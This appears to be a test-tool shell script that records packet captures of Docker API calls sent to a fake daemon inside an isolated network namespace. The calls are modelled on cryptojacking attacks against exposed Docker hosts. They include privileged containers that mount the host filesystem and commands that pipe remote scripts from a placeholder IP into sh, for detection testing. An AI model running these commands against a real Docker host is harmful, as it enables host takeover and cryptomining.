#!/bin/sh
# Makes pcaps/docker-*.pcap: the real docker CLI (client only, /usr/local/bin/docker)
# and curl talking to tests/tools/fake_dockerd.py on 127.0.0.1:2375, inside a
# network namespace this script creates and deletes (nothing leaves it; the
# URLs inside container commands are never fetched: the fake daemon runs
# nothing). Needs root, iproute2, tcpdump, python3, curl, docker.
# Usage: tests/tools/make_docker_pcaps.sh [OUTDIR]   (default pcaps/)
set -eu
R=$(cd "$(dirname "$0")/../.." && pwd)
O=${1:-$R/pcaps}
NS="ip netns exec fdpcap"
cfg=$(mktemp -d)
ip netns del fdpcap 2>/dev/null || true
ip netns add fdpcap
trap 'kill $FAKE 2>/dev/null; ip netns del fdpcap; rm -rf "$cfg"' EXIT
$NS ip link set lo up
$NS python3 "$R/tests/tools/fake_dockerd.py" 2375 2>/dev/null &
FAKE=$!
sleep 1
D="$NS env DOCKER_CONFIG=$cfg /usr/local/bin/docker -H tcp://127.0.0.1:2375"
cap() { # NAME COMMAND...: capture one command's conversation
    name=$1
    shift
    $NS tcpdump -i lo -U -s 0 -w "$O/docker-$name.pcap" tcp port 2375 2>/dev/null &
    tp=$!
    sleep 1
    "$@" >/dev/null 2>&1 || true
    sleep 1
    kill $tp
    wait $tp 2>/dev/null || true
}
cap version $D version
cap pull $D pull pocosow/centos:7.6.1810
cap run-priv $D run --privileged -v /:/host -d --name graboid pocosow/centos sh -c 'curl -s http://198.51.100.9/xmr.sh | sh'
cap run-mount $D run -d --pid host --net host --ipc host --cap-add SYS_ADMIN --device /dev/mem --security-opt seccomp=unconfined --mount type=bind,source=/etc,target=/hostetc -e AWS_SECRET_ACCESS_KEY=hunter2 -e FOO=bar --entrypoint /bin/sh alpine -c 'wget -q -O - http://198.51.100.9/d.sh | sh'
cap exec $D exec -u root --privileged graboid sh -c 'echo aWQ= | base64 -d | sh'
cap stop $D stop graboid
cap kill $D kill graboid
cap rm $D rm -f graboid
cap curl-chunked $NS curl -s -H 'Transfer-Encoding: chunked' -H 'Content-Type: application/json' -A 'curl/7.88.1' --data-binary '{"Image":"alpine","Cmd":["/bin/sh","-c","curl -s http://198.51.100.9/x.sh|bash"],"HostConfig":{"Privileged":true,"Binds":["/:/mnt"]}}' 'http://127.0.0.1:2375/v1.24/containers/create?name=x1'
cap curl-keepalive $NS curl -s http://127.0.0.1:2375/_ping http://127.0.0.1:2375/v1.41/version http://127.0.0.1:2375/v1.41/info -X GET
